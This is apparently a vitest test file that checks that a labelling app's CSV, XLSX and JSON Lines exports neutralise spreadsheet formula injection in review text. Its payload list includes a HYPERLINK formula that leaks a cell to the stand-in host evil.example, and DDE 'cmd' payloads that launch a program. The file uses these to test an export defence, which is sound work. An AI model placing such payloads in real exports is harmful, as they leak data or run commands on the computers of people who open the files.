/**
 * Spreadsheet formula injection: reviews are text from anywhere, and a review opening with `=`,
 * `+`, `-`, `@`, a tab or a carriage return runs as a formula when an export is opened in a
 * spreadsheet. CSV exports (labelled data and predictions) prefix such cells with a single quote;
 * XLSX exports write them as inline strings, never formulas; JSON Lines keeps the text as it is.
 * Every file is read back the way a spreadsheet or a script would read it.
 */
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Project } from '../../../src-main/node/db/project';
import { csvField, exportLabelledData, looksLikeFormula } from '../../../src-main/node/export/data';
import { readModelBundle } from '../../../src-main/node/export/modelBundle';
import { openRecordStream } from '../../../src-main/node/ingest/source';
import { scoreFile } from '../../../src-main/node/predict/batchPredict';
import { loadPredictor } from '../../../src-main/node/train/predictor';
import { writeTinyBundle } from '../../fixtures/bad/bundles/tinyBundle';
import { addTexts, newProject, tempDir } from '../../helpers/tempProject';

/** Stored texts are trimmed, so a leading tab or CR sits after other text in a real review; both also open a cell. */
const payloads = [
  '=HYPERLINK("http://evil.example/?leak="&A2,"Click for details")',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd|x',
  '@SUM(1+1)*cmd|x',
  '＝1+1 full-width',
];
const harmless = ['A plain review, with a comma', 'Price: -5 € off, "great" = fine', 'email me @ home'];

describe('csvField', () => {
  it('prefixes text that a spreadsheet would run as a formula', () => {
    expect(csvField('=1+1')).toBe("'=1+1");
    expect(csvField('+1')).toBe("'+1");
    expect(csvField('-1 star')).toBe("'-1 star");
    expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvField('\t=1+1')).toBe("'\t=1+1");
    expect(csvField('\r=1+1')).toBe(`"'\r=1+1"`);
    expect(csvField('＝1+1')).toBe("'＝1+1");
    expect(csvField('=HYPERLINK("x","y")')).toBe(`"'=HYPERLINK(""x"",""y"")"`);
  });

  it('leaves numbers, empty cells and text with a formula character further in alone', () => {
    expect(csvField(-3)).toBe('-3');
    expect(csvField(null)).toBe('');
    expect(csvField('')).toBe('');
    expect(csvField('a=b')).toBe('a=b');
    expect(csvField(' =1')).toBe(' =1');
    expect(harmless.every((t) => !looksLikeFormula(t))).toBe(true);
  });
});

let dir: string;
let cleanup = () => {};
let project: Project;

beforeAll(() => {
  ({ dir, cleanup } = tempDir('sstudio-formula-'));
  project = newProject(dir);
  const ids = addTexts(project, [...payloads, ...harmless]);
  project.labelEvents.setLabels(ids, 'negative', 'manual', '=cmd|x');
  project.splits.assignPending();
});
afterAll(() => {
  project.close();
  cleanup();
});

async function csvRows(path: string): Promise<Record<string, string>[]> {
  const stream = await openRecordStream(path);
  const rows: Record<string, string>[] = [];
  for await (const record of stream.records) rows.push({ ...record.fields });
  return rows;
}

/** Every cell of the first sheet as exceljs reads it, plus the raw XML that a spreadsheet sees. */
async function xlsxSheet(path: string): Promise<{ rows: ExcelJS.Cell[][]; xml: string }> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.readFile(path);
  const rows: ExcelJS.Cell[][] = [];
  workbook.worksheets[0]!.eachRow((row) => {
    const cells: ExcelJS.Cell[] = [];
    row.eachCell({ includeEmpty: true }, (cell) => cells.push(cell));
    rows.push(cells);
  });
  const zip = await JSZip.loadAsync(readFileSync(path));
  const xml = await zip.file('xl/worksheets/sheet1.xml')!.async('string');
  return { rows, xml };
}

function expectNoFormulas(sheet: { rows: ExcelJS.Cell[][]; xml: string }, texts: string[]): void {
  expect(sheet.xml).not.toMatch(/<f[ >]/);
  for (const row of sheet.rows) for (const cell of row) expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
  const shown = sheet.rows.flatMap((row) => row.map((cell) => cell.text));
  for (const text of texts) expect(shown).toContain(text);
  // The formula-looking ones are inline strings, a type no spreadsheet evaluates.
  const inline = [...sheet.xml.matchAll(/<c [^>]*t="inlineStr"[^>]*><is>(.*?)<\/is><\/c>/g)].map((m) => m[1]!);
  expect(inline.length).toBeGreaterThanOrEqual(payloads.length);
}

describe('labelled data exports', () => {
  it('CSV: formula-looking texts and annotators get the quote prefix, others stay as they were', async () => {
    const path = join(dir, 'labels.csv');
    await exportLabelledData(project, { path, format: 'csv', history: false, overwrite: false });
    const rows = await csvRows(path);
    expect(rows.map((r) => r.text)).toEqual([...payloads.map((p) => `'${p}`), ...harmless]);
    expect(new Set(rows.map((r) => r.annotator))).toEqual(new Set(["'=cmd|x"]));
    const history = join(dir, 'history.csv');
    await exportLabelledData(project, { path: history, format: 'csv', history: true, overwrite: false });
    expect((await csvRows(history)).filter((r) => r.text.startsWith("'"))).toHaveLength(payloads.length);
  });

  it('XLSX: the exact texts, as strings, never as formulas', async () => {
    const path = join(dir, 'labels.xlsx');
    await exportLabelledData(project, { path, format: 'xlsx', history: false, overwrite: false });
    expectNoFormulas(await xlsxSheet(path), [...payloads, ...harmless, '=cmd|x']);
  });

  it('JSON Lines: data, not a spreadsheet, so the texts stay raw', async () => {
    const path = join(dir, 'labels.jsonl');
    await exportLabelledData(project, { path, format: 'jsonl', history: false, overwrite: false });
    const rows = readFileSync(path, 'utf8').trim().split('\n').map((l) => JSON.parse(l) as { text: string });
    expect(rows.map((r) => r.text)).toEqual([...payloads, ...harmless]);
  });
});

describe('prediction outputs', () => {
  it('CSV and XLSX results neutralise the texts they copy from the scored file', async () => {
    const bundleDir = join(dir, 'model');
    mkdirSync(bundleDir);
    const bundle = readModelBundle(await writeTinyBundle(bundleDir));
    const predictor = await loadPredictor(bundle, bundle.labels.labels);
    const input = join(dir, 'to-score.jsonl');
    writeFileSync(input, [...payloads, ...harmless].map((text) => JSON.stringify({ text })).join('\n'));
    try {
      const csv = join(dir, 'scored.csv');
      await scoreFile(predictor, { input, output: csv, format: 'csv' });
      expect((await csvRows(csv)).map((r) => r.text)).toEqual([...payloads.map((p) => `'${p}`), ...harmless]);
      const xlsx = join(dir, 'scored.xlsx');
      await scoreFile(predictor, { input, output: xlsx, format: 'xlsx' });
      expectNoFormulas(await xlsxSheet(xlsx), [...payloads, ...harmless]);
    } finally {
      predictor.dispose();
    }
  });
});
